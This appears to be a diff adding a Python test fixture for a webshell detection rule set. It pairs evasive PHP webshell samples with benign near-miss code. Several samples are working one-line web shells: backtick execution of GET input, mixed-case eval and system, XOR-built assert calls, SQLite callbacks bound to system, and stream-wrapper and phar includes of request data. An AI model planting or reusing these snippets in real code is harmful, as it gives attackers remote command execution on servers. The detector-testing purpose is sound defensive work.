@@ -1,0 +1,490 @@
+# ruff: noqa: E501
+"""Must-hit / near-miss samples for issue 4q: misses of blind batches of PHP-trick webshells.
+
+The variants were written without looking at the rules (callbacks, reflection, variable functions,
+stream-wrapper includes, decoders, string building, password gates; the small files the ML webshell
+datasets are full of).  The ones main missed are kept here, each checked as written, `padded(...)`
+(behind 5 KB of neutral HTML) and `embedded(...)` (at the top of a 35 KB plugin-style file), beside
+legit code that comes close to every rule issue 4q added or widened.  Nothing here comes from the
+malware corpus.  Collected by tests/test_rules.py.
+"""
+
+from __future__ import annotations
+
+from tests.sample_hosts import embedded, padded, plain
+
+CASES: list[tuple[str, bytes, bool]] = [
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain("<?php\ninclude 'zip://' . $_GET['z'] . '#shell.php';\n"),
+        True,
+    ),  # blind b1 inc_zip plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        padded("<?php\ninclude 'zip://' . $_GET['z'] . '#shell.php';\n"),
+        True,
+    ),  # blind b1 inc_zip padded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded("<?php\ninclude 'zip://' . $_GET['z'] . '#shell.php';\n"),
+        True,
+    ),  # blind b1 inc_zip embedded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain("<?php\n@require_once('phar://' . $_REQUEST['ph'] . '/x.php');\n"),
+        True,
+    ),  # blind b1 inc_phar plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        padded("<?php\n@require_once('phar://' . $_REQUEST['ph'] . '/x.php');\n"),
+        True,
+    ),  # blind b1 inc_phar padded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded("<?php\n@require_once('phar://' . $_REQUEST['ph'] . '/x.php');\n"),
+        True,
+    ),  # blind b1 inc_phar embedded
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        plain(
+            "<?php\nclass M { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$m = new M;\n$m->system($_POST['c']);\n"
+        ),
+        True,
+    ),  # blind b1 anon_call plain
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        padded(
+            "<?php\nclass M { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$m = new M;\n$m->system($_POST['c']);\n"
+        ),
+        True,
+    ),  # blind b1 anon_call padded
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        embedded(
+            "<?php\nclass M { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$m = new M;\n$m->system($_POST['c']);\n"
+        ),
+        True,
+    ),  # blind b1 anon_call embedded
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        plain(
+            "<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n$___=$$__;\n$_($___[_]);\n"
+        ),
+        True,
+    ),  # blind b2 nonalnum_xor plain
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        padded(
+            "<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n$___=$$__;\n$_($___[_]);\n"
+        ),
+        True,
+    ),  # blind b2 nonalnum_xor padded
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        embedded(
+            "<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n$___=$$__;\n$_($___[_]);\n"
+        ),
+        True,
+    ),  # blind b2 nonalnum_xor embedded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        plain(
+            "<?php\n$s = new SQLite3(':memory:');\n$s->createFunction('f', 'assert');\n$s->query(\"select f('\" . $_POST['x'] . \"')\");\n"
+        ),
+        True,
+    ),  # blind b2 sqlite3_createfunc plain
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        padded(
+            "<?php\n$s = new SQLite3(':memory:');\n$s->createFunction('f', 'assert');\n$s->query(\"select f('\" . $_POST['x'] . \"')\");\n"
+        ),
+        True,
+    ),  # blind b2 sqlite3_createfunc padded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        embedded(
+            "<?php\n$s = new SQLite3(':memory:');\n$s->createFunction('f', 'assert');\n$s->query(\"select f('\" . $_POST['x'] . \"')\");\n"
+        ),
+        True,
+    ),  # blind b2 sqlite3_createfunc embedded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        plain(
+            "<?php\n$db = new PDO('sqlite::memory:');\n$db->sqliteCreateFunction('x', 'system', 1);\n$db->query(\"SELECT x('\" . $_GET['c'] . \"')\");\n"
+        ),
+        True,
+    ),  # blind b2 pdo_sqlite_func plain
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        padded(
+            "<?php\n$db = new PDO('sqlite::memory:');\n$db->sqliteCreateFunction('x', 'system', 1);\n$db->query(\"SELECT x('\" . $_GET['c'] . \"')\");\n"
+        ),
+        True,
+    ),  # blind b2 pdo_sqlite_func padded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        embedded(
+            "<?php\n$db = new PDO('sqlite::memory:');\n$db->sqliteCreateFunction('x', 'system', 1);\n$db->query(\"SELECT x('\" . $_GET['c'] . \"')\");\n"
+        ),
+        True,
+    ),  # blind b2 pdo_sqlite_func embedded
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        plain("<?php\nfunction x() { $a = func_get_args(); $a[0]($a[1]); }\nx($_GET['f'], $_GET['a']);\n"),
+        True,
+    ),  # blind b2 func_get_args plain
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        padded("<?php\nfunction x() { $a = func_get_args(); $a[0]($a[1]); }\nx($_GET['f'], $_GET['a']);\n"),
+        True,
+    ),  # blind b2 func_get_args padded
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        embedded("<?php\nfunction x() { $a = func_get_args(); $a[0]($a[1]); }\nx($_GET['f'], $_GET['a']);\n"),
+        True,
+    ),  # blind b2 func_get_args embedded
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        plain("<?php\n$o = (object) array('f' => 'assert');\n($o->f)($_POST['x']);\n"),
+        True,
+    ),  # blind b2 obj_prop_call plain
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        padded("<?php\n$o = (object) array('f' => 'assert');\n($o->f)($_POST['x']);\n"),
+        True,
+    ),  # blind b2 obj_prop_call padded
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        embedded("<?php\n$o = (object) array('f' => 'assert');\n($o->f)($_POST['x']);\n"),
+        True,
+    ),  # blind b2 obj_prop_call embedded
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        plain("<?php\n$a = array('system');\n$a[0]($_GET['c']);\n"),
+        True,
+    ),  # blind b2 array_slot_name plain
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        padded("<?php\n$a = array('system');\n$a[0]($_GET['c']);\n"),
+        True,
+    ),  # blind b2 array_slot_name padded
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        embedded("<?php\n$a = array('system');\n$a[0]($_GET['c']);\n"),
+        True,
+    ),  # blind b2 array_slot_name embedded
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        plain("<?=@`$_GET[1]`?>\n"),
+        True,
+    ),  # blind b2 short_echo_backtick plain
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        padded("<?=@`$_GET[1]`?>\n"),
+        True,
+    ),  # blind b2 short_echo_backtick padded
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        embedded("<?=@`$_GET[1]`?>\n"),
+        True,
+    ),  # blind b2 short_echo_backtick embedded
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        plain("<?php\necho `{$_GET['c']}`;\n"),
+        True,
+    ),  # blind b2 backtick_direct plain
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        padded("<?php\necho `{$_GET['c']}`;\n"),
+        True,
+    ),  # blind b2 backtick_direct padded
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        embedded("<?php\necho `{$_GET['c']}`;\n"),
+        True,
+    ),  # blind b2 backtick_direct embedded
+    (
+        "SPAMGEAR_EVASION_CopiedInputElementCall",
+        plain("<?php\n$x = filter_input_array(INPUT_GET);\n$x['f']($x['a']);\n"),
+        True,
+    ),  # blind b2 filter_input_array plain
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        plain("<?php\n@EvAl($_POST['x']);\n"),
+        True,
+    ),  # blind b2 mixed_case_eval plain
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        padded("<?php\n@EvAl($_POST['x']);\n"),
+        True,
+    ),  # blind b2 mixed_case_eval padded
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        embedded("<?php\n@EvAl($_POST['x']);\n"),
+        True,
+    ),  # blind b2 mixed_case_eval embedded
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        plain("<?php\necho SyStEm($_GET['c']);\n"),
+        True,
+    ),  # blind b2 mixed_case_system plain
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        padded("<?php\necho SyStEm($_GET['c']);\n"),
+        True,
+    ),  # blind b2 mixed_case_system padded
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        embedded("<?php\necho SyStEm($_GET['c']);\n"),
+        True,
+    ),  # blind b2 mixed_case_system embedded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain(
+            "<?php\nclass VarStream { public $p = 0; public $d; function stream_open($path, $mode, $o, &$op) { $this->d = base64_decode(substr($path, 6)); return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += $n; return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return array(); } }\nstream_wrapper_register('var', 'VarStream');\ninclude 'var://' . $_POST['v'];\n"
+        ),
+        True,
+    ),  # blind b2 stream_wrapper plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        padded(
+            "<?php\nclass VarStream { public $p = 0; public $d; function stream_open($path, $mode, $o, &$op) { $this->d = base64_decode(substr($path, 6)); return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += $n; return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return array(); } }\nstream_wrapper_register('var', 'VarStream');\ninclude 'var://' . $_POST['v'];\n"
+        ),
+        True,
+    ),  # blind b2 stream_wrapper padded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded(
+            "<?php\nclass VarStream { public $p = 0; public $d; function stream_open($path, $mode, $o, &$op) { $this->d = base64_decode(substr($path, 6)); return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += $n; return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return array(); } }\nstream_wrapper_register('var', 'VarStream');\ninclude 'var://' . $_POST['v'];\n"
+        ),
+        True,
+    ),  # blind b2 stream_wrapper embedded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain(
+            "<?php\nPhar::mapPhar('app.phar');\nrequire 'phar://' . __FILE__ . '/vendor/autoload.php';\n__HALT_COMPILER();\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded(
+            "<?php\nPhar::mapPhar('app.phar');\nrequire 'phar://' . __FILE__ . '/vendor/autoload.php';\n__HALT_COMPILER();\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain("<?php\ninclude 'zip://' . __DIR__ . '/bundle.zip#inc/setup.php';\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded("<?php\ninclude 'zip://' . __DIR__ . '/bundle.zip#inc/setup.php';\n"),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain("<?php\ninclude 'http://' . $_SERVER['HTTP_HOST'] . '/header.php';\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded("<?php\ninclude 'http://' . $_SERVER['HTTP_HOST'] . '/header.php';\n"),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        plain("<?php\n$page = basename($_GET['p']);\ninclude __DIR__ . '/pages/' . $page . '.php';\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
+        embedded("<?php\n$page = basename($_GET['p']);\ninclude __DIR__ . '/pages/' . $page . '.php';\n"),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        plain(
+            "<?php\nclass Proxy { private $t; function __call($n, $a) { return call_user_func_array(array($this->t, $n), $a); } }\n$p = new Proxy();\n$p->save($_POST['title']);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        embedded(
+            "<?php\nclass Proxy { private $t; function __call($n, $a) { return call_user_func_array(array($this->t, $n), $a); } }\n$p = new Proxy();\n$p->save($_POST['title']);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        plain(
+            "<?php\nclass Fns { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$f = new Fns();\necho $f->strtoupper($_POST['name']);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        embedded(
+            "<?php\nclass Fns { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$f = new Fns();\necho $f->strtoupper($_POST['name']);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        plain(
+            "<?php\n$db = new SQLite3('app.db');\n$db->createFunction('regexp', 'preg_match', 2);\n$pdo->sqliteCreateFunction('md5rev', 'md5_reverse', 1);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        embedded(
+            "<?php\n$db = new SQLite3('app.db');\n$db->createFunction('regexp', 'preg_match', 2);\n$pdo->sqliteCreateFunction('md5rev', 'md5_reverse', 1);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        plain(
+            "<?php\nfunction apply() { $a = func_get_args(); return $a[0]($a[1]); }\necho apply('trim', $_POST['name']);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        embedded(
+            "<?php\nfunction apply() { $a = func_get_args(); return $a[0]($a[1]); }\necho apply('trim', $_POST['name']);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        plain(
+            "<?php\nfunction first() { $a = func_get_args(); return $a[0]; }\nsave_pair($_POST['user'], $_POST['mail']);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
+        embedded(
+            "<?php\nfunction first() { $a = func_get_args(); return $a[0]; }\nsave_pair($_POST['user'], $_POST['mail']);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        plain(
+            "<?php\n$disabled = array('exec', 'system');\nif (in_array($_GET['fn'], $disabled, true)) { die('no'); }\n$cb = $handlers[$_GET['a']];\n$cb($_POST['x']);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        embedded(
+            "<?php\n$disabled = array('exec', 'system');\nif (in_array($_GET['fn'], $disabled, true)) { die('no'); }\n$cb = $handlers[$_GET['a']];\n$cb($_POST['x']);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        plain(
+            "<?php\n$labels = array('system' => 'System status', 'exec' => 'Executive');\necho esc_html($labels[$_GET['tab']]);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
+        embedded(
+            "<?php\n$labels = array('system' => 'System status', 'exec' => 'Executive');\necho esc_html($labels[$_GET['tab']]);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        plain(
+            "<?php\n/**\n * Reads the id from `$_GET['id']` and loads the row.\n */\n// usage: `$_GET['page']` selects the page\n$id = (int) $_GET['id'];\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        embedded(
+            "<?php\n/**\n * Reads the id from `$_GET['id']` and loads the row.\n */\n// usage: `$_GET['page']` selects the page\n$id = (int) $_GET['id'];\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        plain("<?php\n$out = `ls -la /var/log`;\n$d = escapeshellarg($_GET['d']);\necho $out;\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_BacktickOfInput",
+        embedded("<?php\n$out = `ls -la /var/log`;\n$d = escapeshellarg($_GET['d']);\necho $out;\n"),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        plain(
+            "<?php\necho Eval_Result($_POST['x']);\n$this->System($_GET['id']);\nAssert::true($_POST['ok']);\nfunction System($cmd) { return $cmd; }\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        embedded(
+            "<?php\necho Eval_Result($_POST['x']);\n$this->System($_GET['id']);\nAssert::true($_POST['ok']);\nfunction System($cmd) { return $cmd; }\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        plain("<?php\n$r = Evaluator::run($_POST['expr']);\necho Systematic($_GET['q']);\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
+        embedded("<?php\n$r = Evaluator::run($_POST['expr']);\necho Systematic($_GET['q']);\n"),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        plain(
+            "<?php\n$k = ('a' ^ 'b') . ('c' ^ 'd') . ('e' ^ 'f') . ('g' ^ 'h');\n$mask = ('x'^'y');\necho bin2hex($k . $mask);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        embedded(
+            "<?php\n$k = ('a' ^ 'b') . ('c' ^ 'd') . ('e' ^ 'f') . ('g' ^ 'h');\n$mask = ('x'^'y');\necho bin2hex($k . $mask);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        plain("<?php\n$_ = 'gettext';\n$__ = 'Hello';\necho $_($__);\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
+        embedded("<?php\n$_ = 'gettext';\n$__ = 'Hello';\necho $_($__);\n"),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_CopiedInputElementCall",
+        plain(
+            "<?php\n$in = filter_input_array(INPUT_POST);\n$out = array_map('trim', $in);\necho htmlspecialchars($out['name']);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_CopiedInputElementCall",
+        embedded(
+            "<?php\n$in = filter_input_array(INPUT_POST);\n$out = array_map('trim', $in);\necho htmlspecialchars($out['name']);\n"
+        ),
+        False,
+    ),  # near miss embedded
+]
